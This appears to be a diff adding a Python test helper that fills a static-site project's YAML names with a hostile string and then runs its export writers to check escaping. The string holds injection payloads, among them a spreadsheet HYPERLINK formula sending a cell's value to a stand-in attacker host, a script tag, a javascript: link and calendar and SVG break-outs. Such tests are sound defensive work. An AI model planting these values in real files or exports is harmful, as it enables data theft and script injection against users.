@@ -1,0 +1,42 @@
+"""A project whose every name is hostile, for all that is taken away."""
+
+from __future__ import annotations
+
+import re
+import shutil
+from pathlib import Path
+
+from macros.project import Project
+from macros.site.calendar import write_calendar
+from macros.site.downloads import write_data
+from macros.site.items import write_items
+from macros.site.pictures import write_pictures
+from macros.site.slides import write_slides
+from macros.site.twins import write_twins
+from tests.conftest import ROOT
+from tests.projects import make, read
+
+HOSTILE = (
+    '=HYPERLINK("https://evil.example/?"&A1,"x") <script>alert(1)</script> </text></svg> [x](javascript:alert(1)) '
+    "![p](https://evil.example/p.png) | # * _ ` ~ \\\\ $ % ^ & ' ; BEGIN:VEVENT , ]]> --> https://evil.example"
+)
+NAMES = re.compile(r"^(?P<key>\s*(?:- )?(?:title|name|corner|unit|basis|publisher)): (?P<value>[^>\n]+)$", re.MULTILINE)
+MAKERS = (write_items, write_data, write_twins, write_calendar, write_pictures, write_slides)
+
+
+def hostile_project(folder: Path) -> Project:
+    """The base project with a hostile text in front of every name."""
+    root = make({}, folder)
+    shutil.copytree(ROOT / "docs" / "assets", root / "docs" / "assets")
+    quoted = HOSTILE.replace('"', '\\"')
+    for path in sorted((root / "docs" / "data").glob("*.yml")):
+        text = path.read_text(encoding="utf-8")
+        path.write_text(NAMES.sub(lambda match: f'{match["key"]}: "{quoted} {match["value"].strip(chr(34))}"', text), encoding="utf-8")
+    return read(root)
+
+
+def taken_away(project: Project, site: Path) -> Path:
+    """All that can be taken away from a project, in a folder."""
+    for make_files in MAKERS:
+        make_files(site, project)
+    return site
